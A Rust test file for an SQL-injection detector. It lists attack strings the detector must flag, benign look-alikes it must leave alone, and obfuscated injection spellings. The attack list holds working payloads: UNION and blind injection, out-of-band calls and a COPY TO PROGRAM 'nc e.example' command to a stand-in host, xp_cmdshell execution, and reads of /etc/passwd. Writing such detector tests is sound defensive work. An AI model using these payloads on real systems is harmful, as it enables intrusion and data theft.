//! Each family that the patrol must find, as the whole of it (model and patterns) judges it, and
//! the ordinary statement, value or text beside it that looks alike.

use crate::{inference, patrols, score::score_rows};
use magsentinel_bus_schema::{Fields, Level};
use serde_json::{Value, json};

fn score(rows: &[(&str, &str)]) -> Vec<Value> {
    let (config, inference) = (patrols::Config::default(), inference::Config::default());
    let rows = rows.iter().map(|(kind, text)| {
        Fields(json!({"kind": kind, "text": text}).as_object().cloned().unwrap_or_default())
    });
    let scored = score_rows("sql-guard", &config, &inference, rows).unwrap();
    scored.map(|row| row["scored"].clone()).collect()
}

fn level(scored: &Value) -> Level {
    Level::from_token(scored["level"].as_str().unwrap_or_default()).unwrap_or(Level::None)
}

/// Text, its kind, and the category that a finding names.
const ATTACKS: &[(&str, &str, &str)] = &[
    ("param", "-1' UNION ALL SELECT NULL,concat(nick,0x3a,hash),NULL-- -", "union_injection"),
    ("query", "SELECT a FROM t WHERE b = '' OR '1'='1' -- ' AND c = 'x'", "tautology"),
    ("param", "1' AND (SELECT SUBSTR(pass,1,1) FROM staff LIMIT 1)='a", "sql_injection"),
    ("param", "1 AND IF(1=1,SLEEP(5),0)", "time_blind"),
    ("param", "x'; INSERT INTO admins VALUES ('eve','x')--", "stacked_query"),
    ("query", "SELECT utl_http.request('http://e.example/'||user) FROM dual", "out_of_band"),
    ("query", "SELECT dbms_ldap.init(user||'.e.example',80) FROM dual", "out_of_band"),
    ("query", "EXEC master..xp_dirtree '\\\\e.example\\a'", "out_of_band"),
    ("query", "EXEC xp_cmdshell 'whoami'", "command_execution"),
    ("query", "COPY staff TO PROGRAM 'nc e.example 9'", "command_execution"),
    ("query", "COPY x FROM PROGRAM 'id'", "command_execution"),
    ("query", "DECLARE @q varchar(99); SET @q=0x73656c656374; EXEC(@q)", "command_execution"),
    ("query", "SET @q=0x64726f70207461626c65; PREPARE s FROM @q; EXECUTE s", "command_execution"),
    ("query", "COPY customers TO '/mnt/share/c.csv' CSV", "bulk_export"),
    ("query", "COPY (SELECT * FROM cards) TO '/tmp/c.csv'", "file_write"),
    ("query", "SELECT * FROM staff INTO OUTFILE '/tmp/s.txt'", "file_write"),
    ("query", "ATTACH DATABASE '/var/www/html/x.db' AS x", "file_write"),
    ("query", "ATTACH DATABASE '/srv/a/x.php' AS x", "file_write"),
    ("query", "SELECT username, password FROM users", "bulk_export"),
    ("query", "select card_number, cvv, holder from payments;", "bulk_export"),
    ("query", "SELECT pg_read_file('/etc/passwd')", "file_read"),
    ("query", "SELECT lo_import('/etc/passwd')", "file_read"),
    ("query", "SELECT load_file('/etc/passwd')", "file_read"),
    ("query", "BULK INSERT t FROM 'c:\\windows\\win.ini'", "file_read"),
    ("query", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "file_read"),
    ("query", "SELECT current_setting('hba_file')", "schema_enumeration"),
    ("query", "select grantee from syscat.dbauth", "schema_enumeration"),
    ("query", "DROP DATABASE shop", "destructive_ddl"),
    ("query", "ALTER USER app WITH SUPERUSER", "privilege_change"),
    ("query", "EXEC sp_configure 'show advanced options', 1", "privilege_change"),
];

const LOOK_ALIKES: &[(&str, &str)] = &[
    ("query", "SELECT id, name FROM a UNION ALL SELECT id, name FROM b"),
    ("query", "SELECT * FROM orders WHERE state = 'new' OR state = 'paid'"),
    ("query", "SELECT hour, sleep_minutes FROM sleep_log WHERE user_id = 4"),
    ("query", "BEGIN; UPDATE stock SET n = n - 1 WHERE id = 7; COMMIT;"),
    ("query", "EXEC dbo.get_orders @id = 12"),
    ("query", "EXEC sp_executesql N'SELECT * FROM t WHERE a = @p0', N'@p0 int', @p0 = 3"),
    ("query", "COPY public.orders (id, total) TO stdout;"),
    ("query", "COPY items (id, name) FROM STDIN WITH (FORMAT csv)"),
    ("query", "SELECT password FROM users WHERE email = $1"),
    ("query", "SELECT id, password_hash FROM users WHERE username = ?"),
    ("query", "SELECT card_id, total FROM card_payments"),
    ("query", "ATTACH DATABASE 'archive.db' AS archive"),
    ("query", "LOAD DATA INFILE 'items.csv' INTO TABLE items"),
    ("query", "SELECT current_setting('server_version_num')"),
    ("query", "DROP DATABASE IF EXISTS shop_test"),
    ("query", "DROP TABLE IF EXISTS tmp_import"),
    ("query", "CREATE FUNCTION f(a int) RETURNS int AS $$ SELECT a + 1 $$ LANGUAGE SQL"),
    ("query", "GRANT SELECT ON orders TO reporting"),
    ("param", "Seán O'Brien-O'Hara"),
    ("param", "rock 'n' roll -- live"),
    ("param", "site:example.org OR \"two words\" -draft"),
    ("param", "Name eq 'x' or Price gt 5"),
    ("param", "=IF(A2=\"x\",B2,\"\")"),
    ("free_text", "Please select a table for the union meeting; drop by at 5 o'clock"),
    ("free_text", "Why does SELECT a FROM t WHERE b IS NULL OR c = 1 scan the whole table?"),
];

#[test]
fn each_family_is_flagged_and_named() {
    let rows: Vec<_> = ATTACKS.iter().map(|(kind, text, _)| (*kind, *text)).collect();
    let mut wrong = Vec::new();
    for ((_, text, category), scored) in ATTACKS.iter().zip(score(&rows)) {
        if !level(&scored).is_flagged() || scored["category"] != *category {
            wrong.push(format!("{text}: {} {}", scored["level"], scored["category"]));
        }
        assert!(!scored["reasons"].as_array().unwrap().is_empty(), "{text}");
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_looks_alike_is_left_alone() {
    let mut wrong = Vec::new();
    for ((_, text), scored) in LOOK_ALIKES.iter().zip(score(LOOK_ALIKES)) {
        if level(&scored).is_flagged() {
            wrong.push(format!("{text}: {scored}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn an_injection_is_found_however_it_is_spelled() {
    let spellings = [
        "1'%0bor%0b'1'='1",
        "1%2527%2520or%25201%253d1--%2520",
        "1&#39; or &#39;1&#39;=&#39;1",
        "1%c0%a7 or 1=1-- ",
        "1\u{ff07} or 1=1-- ",
        "1'/*!50000union*//*!50000select*/1,2,3-- ",
        "1'\tuNiOn\tsElEcT\t1,2,3#",
        "1'or(1)=(1)#",
        "1' union(select(1),(2),(3))-- ",
        "1'||'1'like'1",
        "x' and '{\"a\":1}'::jsonb @> '{\"a\":1}'--",
    ];
    let rows: Vec<_> = spellings.iter().map(|text| ("param", *text)).collect();
    for (text, scored) in spellings.iter().zip(score(&rows)) {
        assert!(level(&scored).is_flagged(), "{text} {scored}");
    }
}
